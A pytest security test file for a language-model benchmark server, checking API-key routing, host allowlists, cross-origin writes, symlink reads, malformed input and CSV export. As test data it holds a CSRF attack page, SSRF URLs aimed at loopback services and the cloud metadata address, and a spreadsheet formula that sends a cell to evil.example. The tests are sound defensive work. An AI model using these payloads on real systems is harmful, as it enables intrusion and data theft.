"""Hardening against a real server and worker: where the server's API key
travels, which hosts jobs may reach, what of a remote answer reaches a job's error,
and cancel / timeout ending a request that hangs. Loopback listeners stand in for
remote endpoints."""

from __future__ import annotations

import json
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import ROOT, LiveServer, queue_on, stop_process

KEY = "sk-server-key-only-for-its-own-url"
NIAH = {"context_lengths": [256], "depth_percents": [0], "max_new_tokens": 4}
SECRET_PAGE = "<html>internal admin console: db-password=hunter2\x1b[31m</html>"


class Recorder:
    """An OpenAI-compatible endpoint that records each request's Authorization header
    and answers a completion, or (forbidden=True) a 403 with an internal HTML page."""

    def __init__(self, forbidden: bool = False, reply: str = "goulash"):
        self.auth: list[str | None] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                recorder.auth.append(self.headers.get("Authorization"))
                if forbidden:
                    body, status, kind = SECRET_PAGE.encode(), 403, "text/html"
                else:
                    body = json.dumps({"choices": [{"message": {"content": reply}}],
                                       "usage": {"prompt_tokens": 3,
                                                 "completion_tokens": 1}}).encode()
                    status, kind = 200, "application/json"
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


class Silent:
    """Accepts connections and never answers (a hung remote model)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/v1"
        self.held: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(conn)

    def stop(self) -> None:
        self.sock.close()
        for conn in self.held:
            conn.close()


@pytest.fixture
def endpoints():
    own, other, forbidden, silent = Recorder(), Recorder(), Recorder(forbidden=True), Silent()
    yield own, other, forbidden, silent
    for e in (own, other, forbidden, silent):
        e.stop()


def test_keys_hosts_remote_errors_and_hung_requests(with_tiny, endpoints):
    own, other, forbidden, silent = endpoints
    server = LiveServer(with_tiny, {"LBS_OPENAI_BASE_URL": own.url,
                                    "LBS_OPENAI_API_KEY": KEY}).start()
    try:
        def submit(api: dict, **extra) -> int:
            status, body = server.request("POST", "/api/jobs", {
                "model": "openai:tiny", "dataset": "needle_in_haystack", "params": NIAH,
                "api": {"max_retries": 0, **api}, **extra})
            assert status == 201, body
            return body["data"]["job"]["id"]

        # 1. The server's key goes to its own base URL, never to one a job names.
        mine = submit({})
        theirs = submit({"base_url": other.url})
        with_key = submit({"base_url": other.url, "api_key": "sk-the-jobs-own"})
        for job_id in (mine, theirs, with_key):
            job = server.wait_for(job_id, ("succeeded", "failed"))
            assert job["state"] == "succeeded", job["error"]
        assert own.auth == [f"Bearer {KEY}"]
        assert other.auth == [None, "Bearer sk-the-jobs-own"]

        # 2. A remote error is its status and a short reason, not the remote body.
        job = server.wait_for(submit({"base_url": forbidden.url}), ("succeeded", "failed"))
        assert job["state"] == "failed" and "HTTP 403" in job["error"]
        assert "hunter2" not in job["error"] and "admin" not in job["error"]
        assert forbidden.auth == [None]

        # 4. Cancel and the job's timeout end a request that never gets an answer.
        hung = submit({"base_url": silent.url, "timeout_s": 600})
        deadline = time.monotonic() + 60
        while not silent.held and time.monotonic() < deadline:
            time.sleep(0.2)
        assert silent.held, "the worker never connected"
        assert server.wait_for(hung, ("running",))["state"] == "running"
        asked = time.monotonic()
        assert server.request("POST", f"/api/jobs/{hung}/cancel")[0] == 200
        job = server.wait_for(hung, ("cancelled", "failed", "succeeded"), timeout=30)
        assert job["state"] == "cancelled", job
        took = time.monotonic() - asked

        timed = submit({"base_url": silent.url, "timeout_s": 600}, timeout_s=2)
        job = server.wait_for(timed, ("cancelled", "failed", "succeeded"), timeout=30)
        assert job["state"] == "failed" and "timed out" in job["error"], job
        print(f"cancel reached the hung request in {took:.1f} s")
    finally:
        server.stop()


def test_jobs_reach_only_allowed_hosts(monkeypatch, with_tiny):
    from backend.common.config import load_settings
    from backend.server import create_app

    def client(**env):
        for name in ("LBS_API_TOKEN", "LBS_OPENAI_ALLOWED_HOSTS", "LBS_OPENAI_BASE_URL"):
            monkeypatch.delenv(name, raising=False)
        for k, v in env.items():
            monkeypatch.setenv(k, v)
        return create_app(load_settings(), {"TESTING": True}).test_client()

    def submit(c, base_url: str, token: str | None = "t0ken") -> tuple[int, list[str]]:
        res = c.post("/api/jobs", json={"model": "openai:tiny", "dataset": "needle_in_haystack",
                                        "params": NIAH, "api": {"base_url": base_url}},
                     headers={"Authorization": f"Bearer {token}"} if token else {})
        body = res.get_json()
        return res.status_code, [d["field"] for d in body["error"]["details"]] \
            if res.status_code >= 400 else []

    # With a token (a shared server): loopback and unlisted hosts are refused.
    shared = client(LBS_API_TOKEN="t0ken", LBS_OPENAI_BASE_URL="http://models.lab:8000/v1")
    for url in ("http://127.0.0.1:6379/v1", "http://localhost:8000/v1", "http://[::1]:80/v1",
                "http://169.254.169.254/latest", "http://intranet.lab/v1"):
        assert submit(shared, url) == (422, ["api.base_url"]), url
    assert submit(shared, "http://models.lab:8000/other")[0] == 201
    listed = client(LBS_API_TOKEN="t0ken", LBS_OPENAI_ALLOWED_HOSTS="intranet.lab,10.0.0.5:9000")
    assert submit(listed, "http://intranet.lab/v1")[0] == 201
    assert submit(listed, "https://10.0.0.5:9000/v1")[0] == 201
    assert submit(listed, "http://10.0.0.5:9001/v1") == (422, ["api.base_url"])
    assert submit(client(LBS_API_TOKEN="t0ken", LBS_OPENAI_ALLOWED_HOSTS="*"),
                  "http://anything.example/v1")[0] == 201
    # Without a token (loopback-only server): loopback services too, nothing else.
    alone = client()
    assert submit(alone, "http://127.0.0.1:8000/v1", None)[0] == 201
    assert submit(alone, "http://intranet.lab/v1", None) == (422, ["api.base_url"])


# --- cross-site writes and DNS rebinding ----------------------------------------------

ATTACK_PAGE = """<!doctype html><title>cute cats</title><script>
const target = "%(target)s";
async function attack() {
  const job = JSON.stringify({model: "builtin:tiny", dataset: "needle_in_haystack"});
  const tries = [
    fetch(target + "/api/jobs/1/cancel", {method: "POST", mode: "no-cors"}),
    fetch(target + "/api/jobs", {method: "POST", mode: "no-cors", body: job}),
    fetch(target + "/api/jobs", {method: "POST", mode: "no-cors", body: job,
                                 headers: {"Content-Type": "text/plain"}}),
    fetch(target + "/api/jobs", {method: "POST", mode: "no-cors",
                                 body: new URLSearchParams({model: "builtin:tiny"})}),
    fetch(target + "/api/v1/memory/limit?limit_gb=0.1", {method: "POST", mode: "no-cors"}),
    fetch(target + "/api/jobs/1", {method: "DELETE", mode: "no-cors"}).catch(() => null),
  ];
  await Promise.allSettled(tries);
  document.title = "done";
}
attack();
</script>
<form id="f" method="post" enctype="text/plain" action="%(target)s/api/jobs/1/cancel">
<input name='{"a":"' value='"}'></form>"""


@pytest.fixture
def idle_server(with_tiny):
    """A server without workers: jobs stay queued, so a cancel would show at once."""
    live = LiveServer(with_tiny, {"LBS_WORKERS": "0"}).start()
    yield live
    live.stop()


def test_a_page_on_another_origin_cannot_change_anything(idle_server):
    import shutil

    from tests.conftest import FLAGS

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.fail("Chromium is not installed: scripts/setup.sh installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    server = idle_server
    status, body = server.request("POST", "/api/jobs", {
        "model": "builtin:tiny", "dataset": "needle_in_haystack", "params": NIAH})
    assert status == 201 and body["data"]["job"]["id"] == 1

    page_html = (ATTACK_PAGE % {"target": server.url}).encode()

    class Page(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page_html)))
            self.end_headers()
            self.wfile.write(page_html)

    evil = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, args=FLAGS)
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
            page.wait_for_function("document.title === 'done'", timeout=30_000)
            with page.expect_navigation():
                page.evaluate("document.getElementById('f').submit()")
            # the server's own page still works: it cancels through its JSON fetches
            own = browser.new_page()
            own.goto(server.url + "/#/queue")
            jobs = server.request("GET", "/api/jobs")[1]["data"]["jobs"]
            assert [(j["id"], j["state"]) for j in jobs] == [(1, "queued")]
            own.locator('tr[data-job="1"] button.cancel').click()
            own.locator('tr[data-job="1"] .badge.cancelled').wait_for(timeout=30_000)
            browser.close()
    finally:
        evil.shutdown()
        evil.server_close()
    jobs = server.request("GET", "/api/jobs")[1]["data"]["jobs"]
    assert [(j["id"], j["state"]) for j in jobs] == [(1, "cancelled")]
    from backend.queue.db import dispose_engines, session_factory

    factory = session_factory(f"sqlite:///{server.data_dir / 'lbs.sqlite3'}")
    # the memory limit was not set to 0.1 GB either
    assert queue_on(factory).commands.stored() == []
    dispose_engines()


def test_foreign_host_and_content_types_are_refused(idle_server):
    import http.client

    server = idle_server

    def raw(method: str, path: str, headers: dict[str, str], body: bytes | None = None):
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        conn.request(method, path, body=body, headers=headers)
        res = conn.getresponse()
        answer = json.loads(res.read() or b"null")
        conn.close()
        return res.status, answer

    status, body = raw("GET", "/api/jobs", {"Host": "attacker.example"})
    assert status == 400 and body["error"]["details"][0]["field"] == "Host"
    assert raw("GET", "/api/jobs", {"Host": f"attacker.example:{server.port}"})[0] == 400
    for name in ("localhost", "127.0.0.1", "[::1]"):
        assert raw("GET", "/api/jobs", {"Host": f"{name}:{server.port}"})[0] == 200, name

    job = json.dumps({"model": "builtin:tiny", "dataset": "needle_in_haystack",
                      "params": NIAH}).encode()
    for kind in ("text/plain", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=x"):
        status, body = raw("POST", "/api/jobs", {"Content-Type": kind}, job)
        assert status == 415 and body["error"]["details"][0]["field"] == "Content-Type"
    status, body = raw("POST", "/api/jobs", {"Content-Type": "application/json",
                                             "Origin": "http://evil.example"}, job)
    assert status == 403 and body["error"]["code"] == "cross_origin"
    status, _ = raw("POST", "/api/jobs", {"Content-Type": "application/json",
                                          "Origin": server.url}, job)
    assert status == 201
    assert server.request("GET", "/api/jobs")[1]["data"]["total"] == 1


# --- files behind symbolic links ----------------------------------------------------------

def test_a_symlinked_file_inside_an_allowed_folder_is_not_read(with_tiny, tmp_path):
    datasets = tmp_path / "datasets"
    (datasets / "mine").mkdir(parents=True)
    outside = tmp_path / "private"
    outside.mkdir()
    secret = outside / "notes.jsonl"
    secret.write_text(json.dumps({"question": "SECRET-OUTSIDE-TEXT", "answer": "#### 4"}) + "\n")
    (datasets / "mine" / "test.jsonl").symlink_to(secret)
    (datasets / "story.txt").symlink_to(outside / "notes.jsonl")
    fine = datasets / "fine"
    fine.mkdir()
    (fine / "rows.jsonl").write_text(json.dumps({"question": "1+3?", "answer": "#### 4"}) + "\n")
    (fine / "test.jsonl").symlink_to(fine / "rows.jsonl")  # a link that stays inside is fine

    server = LiveServer(with_tiny, {"LBS_DATASETS_DIR": str(datasets)}).start()
    try:
        def submit(params: dict, dataset: str = "gsm8k"):
            return server.request("POST", "/api/jobs", {
                "model": "builtin:tiny", "dataset": dataset, "params": params})

        status, body = submit({"data_dir": "mine", "max_new_tokens": 4})
        if status == 201:  # refused by the worker as it opens the file
            job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
            assert job["state"] == "failed", job
            assert "refused" in job["error"] and "symbolic link" in job["error"]
            samples = server.request("GET", f"/api/jobs/{job['id']}/samples")[1]
            assert "SECRET-OUTSIDE-TEXT" not in json.dumps(samples)
        else:
            assert status == 403 and body["error"]["details"][0]["field"] == "params.data_dir"
        status, body = submit({"haystack": "story.txt", **NIAH}, "needle_in_haystack")
        assert status == 403 and body["error"]["details"][0]["field"] == "params.haystack"

        status, body = submit({"data_dir": "fine", "max_new_tokens": 4})
        assert status == 201, body
        job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
        assert job["state"] == "succeeded", job["error"]
        assert "SECRET-OUTSIDE-TEXT" not in server.log()
    finally:
        server.stop()


# --- odd input: 4xx naming the field, never 500 ------------------------------------------

def _raw(server, method: str, path: str, body: bytes | None = None,
         headers: dict[str, str] | None = None) -> tuple[int, dict]:
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    conn.request(method, path, body=body, headers={"Content-Type": "application/json",
                                                   **(headers or {})})
    res = conn.getresponse()
    answer = json.loads(res.read() or b"null")
    conn.close()
    return res.status, answer


def _fields(answer: dict) -> list[str]:
    return [d["field"] for d in answer["error"]["details"]]


def test_odd_input_is_a_4xx_naming_the_field(idle_server):
    server = idle_server
    deep = b'{"model": "builtin:tiny", "dataset": "needle_in_haystack", "params": {"x": ' + \
        b"[" * 1000 + b"]" * 1000 + b"}}"
    assert len(deep) < 2100
    status, body = _raw(server, "POST", "/api/jobs", deep)
    assert status == 400 and body["error"]["code"] == "too_deep", body
    deep = b'{"params": {"x": ' + b"[" * 40 + b"]" * 40 + b"}}"
    status, body = _raw(server, "POST", "/api/jobs", deep)
    assert status == 400 and _fields(body)[0].startswith("params.x[0]"), body

    def job(params: dict, model: str = "builtin:tiny", dataset: str = "needle_in_haystack"):
        return json.dumps({"model": model, "dataset": dataset, "params": params}).encode()

    cases = [
        (job({"haystack": "essays\x00.txt"}), "params.haystack"),
        (job({"data_dir": "gsm\x00k"}, dataset="gsm8k"), "params.data_dir"),
        (job({"needle": "\ud800 lone"}), "params.needle"),
        (job({"haystack": "h" * 300 + ".txt"}), "params.haystack"),
        (job({"data_dir": "d" * 300}, dataset="gsm8k"), "params.data_dir"),
        (job({}, model="m" * 300), "model"),
        (job({}, model="zoo/" + "m" * 300), "model"),
    ]
    for payload, field in cases:
        status, body = _raw(server, "POST", "/api/jobs", payload)
        assert 400 <= status < 500 and field in _fields(body), (payload[:120], status, body)
    status, body = _raw(server, "GET", "/api/jobs?model=a%00b")
    assert status == 422 and _fields(body) == ["model"], body
    assert "Traceback" not in server.log() and "internal_error" not in server.log()


def test_low_severity_input_rules(idle_server):
    server = idle_server
    status, body = server.request("POST", "/api/v1/memory/limit?limit_gb=1e-300")
    assert status == 422 and _fields(body) == ["limit_gb"], body
    base = {"model": "builtin:tiny", "dataset": "needle_in_haystack", "params": NIAH}
    status, body = server.request("POST", "/api/jobs", {**base, "priority": "7"})
    assert status == 422 and _fields(body) == ["priority"], body
    status, body = server.request("POST", "/api/jobs", {
        **base, "params": {**NIAH, "use_chat_template": "yes"}})
    assert status == 422 and _fields(body) == ["params.use_chat_template"], body
    status, body = server.request("POST", "/api/gpu/timeout", {"timeout": "300"})
    assert status == 422 and _fields(body) == ["timeout"], body
    status, body = server.request("POST", "/api/jobs", {
        **base, "params": {**NIAH, "needle": "n" * 1_900_000}})
    assert status == 422 and _fields(body) == ["params.needle"], body
    status, body = server.request("POST", "/api/jobs", {
        **base, "params": {**NIAH, "extra": ["n" * 60_000] * 30}})
    assert status == 422 and _fields(body) == ["params"], body

    ids = [server.request("POST", "/api/jobs", {
        **base, "params": {**NIAH, "needle": f"Needle {i}: " + "x" * 1900}})[1]
        ["data"]["job"]["id"] for i in range(5)]
    status, listed = _raw(server, "GET", "/api/jobs?per_page=100")
    assert status == 200 and len(listed["data"]["jobs"]) == 5
    assert "x" * 1900 not in json.dumps(listed)  # summaries: no params in every poll
    assert all("params" not in j and "events" not in j for j in listed["data"]["jobs"])
    one = server.request("GET", f"/api/jobs/{ids[0]}")[1]["data"]["job"]
    assert one["params"]["needle"].startswith("Needle 0")


def test_csv_export_escapes_formulas(with_tiny):
    reply = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    formula = Recorder(reply=reply)
    server = LiveServer(with_tiny).start()
    try:
        status, body = server.request("POST", "/api/jobs", {
            "model": "openai:tiny", "dataset": "needle_in_haystack", "params": NIAH,
            "api": {"base_url": formula.url, "max_retries": 0}})
        job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
        assert job["state"] == "succeeded", job["error"]
        import csv
        import io
        import urllib.request

        with urllib.request.urlopen(f"{server.url}/api/jobs/{job['id']}/export?format=csv",
                                    timeout=30) as res:
            rows = list(csv.DictReader(io.StringIO(res.read().decode())))
        assert rows[0]["prediction"] == "'" + reply
        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values()
                       if v and not v.lstrip("-").replace(".", "").isdigit())
    finally:
        server.stop()
        formula.stop()


# --- processes, start-up, persisted settings ----------------------------------------------

def test_workers_die_with_a_killed_server(with_tiny):
    import os
    import signal

    import psutil

    server = LiveServer(with_tiny).start()
    try:
        pid = server.wait_for_worker()["pid"]
        assert psutil.Process(pid).ppid() == server.proc.pid
        os.kill(server.proc.pid, signal.SIGKILL)
        server.proc.wait(10)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                if psutil.Process(pid).status() == psutil.STATUS_ZOMBIE:
                    break
            except psutil.NoSuchProcess:
                break
            time.sleep(0.2)
        else:
            os.kill(pid, signal.SIGKILL)
            raise AssertionError("the worker outlived its SIGKILLed server by 30 s")
    finally:
        server.stop()


def _start_fails(data_dir, env: dict[str, str]) -> str:
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    proc = subprocess.run([sys.executable, "-m", "backend.server", "--no-workers"], cwd=ROOT,
                          env={**os.environ, "LBS_DATA_DIR": str(data_dir), **env},
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, proc.stderr
    return proc.stderr


def test_start_up_problems_are_one_sentence(tmp_path):
    import sqlite3

    corrupt = tmp_path / "corrupt"
    corrupt.mkdir()
    (corrupt / "lbs.sqlite3").write_bytes(b"this is not a database file at all" * 40)
    assert "file is not a database" in _start_fails(corrupt, {"LBS_PORT": "0"})

    readonly = tmp_path / "readonly"
    readonly.mkdir()
    sqlite3.connect(readonly / "lbs.sqlite3").execute("CREATE TABLE t (x)").connection.close()
    url = f"sqlite:///file:{readonly / 'lbs.sqlite3'}?mode=ro&uri=true"
    assert "readonly database" in _start_fails(tmp_path, {"LBS_DATABASE_URL": url,
                                                          "LBS_PORT": "0"})
    # an SQLite URI names no folder to create: none appears where the server was started
    assert not (ROOT / f"file:{readonly}").exists()

    url = "postgresql+psycopg://lbs:pa55-w0rd-secret@127.0.0.1:1/lbs"
    out = _start_fails(tmp_path, {"LBS_DATABASE_URL": url, "LBS_PORT": "0"})
    assert "lbs:***@127.0.0.1:1/lbs" in out and "pa55-w0rd-secret" not in out

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen(1)
        out = _start_fails(tmp_path / "fresh", {"LBS_PORT": str(busy.getsockname()[1])})
    assert "already in use" in out


def test_runtime_settings_are_kept_and_applied_by_starting_workers(idle_server):
    import subprocess
    import sys

    from backend.queue.db import dispose_engines, session_factory
    from tests.conftest import ROOT

    server = idle_server
    status, body = server.request("POST", "/api/gpu/timeout", {"timeout": 321})
    assert status == 202 and body["data"]["stored"] is True, body
    status, body = server.request("POST", "/api/v1/memory/limit?limit_gb=2")
    assert status == 202 and body["data"]["memory_limit"] == 2 * 1024**3, body

    worker = subprocess.Popen([sys.executable, "-m", "backend.apps.worker"], cwd=ROOT,
                              env=server.env, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    factory = session_factory(f"sqlite:///{server.data_dir / 'lbs.sqlite3'}")
    try:
        deadline = time.monotonic() + 90
        seen = None
        while time.monotonic() < deadline:
            statuses = [p for p in queue_on(factory).commands.statuses() if not p.stale]
            if statuses:
                seen = statuses[0].status
                if seen["idle_timeout_seconds"] == 321 and seen["memory_limit"] == 2 * 1024**3:
                    break
            time.sleep(0.3)
        else:
            raise AssertionError(f"the worker did not apply the stored settings: {seen}")
        # with a worker running the change is applied at once, and stored for the next
        status, body = server.request("POST", "/api/gpu/timeout", {"timeout": 400})
        assert status == 200 and body["data"]["workers"][0]["ok"], body
    finally:
        stop_process(worker)
        dispose_engines()


def test_an_orphaned_worker_stops_even_when_its_main_thread_is_stuck():
    """The parent watch runs in a thread of its own: once the server is gone it asks the
    worker to stop and, if the worker has not finished after the grace, exits anyway (a
    main thread blocked in C never runs the SIGTERM handler). It watches until the worker
    has finished, not until it was asked to stop: the kernel's SIGTERM on the server's
    death sets the stop flag first, and a worker stuck after that must still end."""
    import os

    from backend.apps.worker_process import watch_parent

    def watch(parent, stop, done):
        exits = []
        watcher = threading.Thread(target=watch_parent,
                                   args=(parent, stop, done, 0.2, exits.append, 0.05))
        watcher.start()
        return watcher, exits

    gone = os.getppid() + 10**6  # a parent this process does not have: the server died

    stop, done = threading.Event(), threading.Event()
    watcher, exits = watch(gone, stop, done)
    watcher.join(5)
    assert stop.is_set() and exits == [1] and not watcher.is_alive()

    # The server's death already delivered SIGTERM (stop is set), then the worker hung.
    stop, done = threading.Event(), threading.Event()
    stop.set()
    watcher, exits = watch(gone, stop, done)
    watcher.join(5)
    assert exits == [1] and not watcher.is_alive()

    # The worker finishes within the grace: no forced exit.
    stop, done = threading.Event(), threading.Event()
    watcher, exits = watch(gone, stop, done)
    assert stop.wait(5)
    done.set()
    watcher.join(5)
    assert exits == [] and not watcher.is_alive()

    # The parent is alive: nothing happens, also while the worker is stopping on request.
    stop, done = threading.Event(), threading.Event()
    watcher, exits = watch(os.getppid(), stop, done)
    time.sleep(0.3)
    assert not stop.is_set() and exits == []
    stop.set()
    time.sleep(0.3)
    assert watcher.is_alive() and exits == []
    done.set()
    watcher.join(5)
    assert not watcher.is_alive() and exits == []
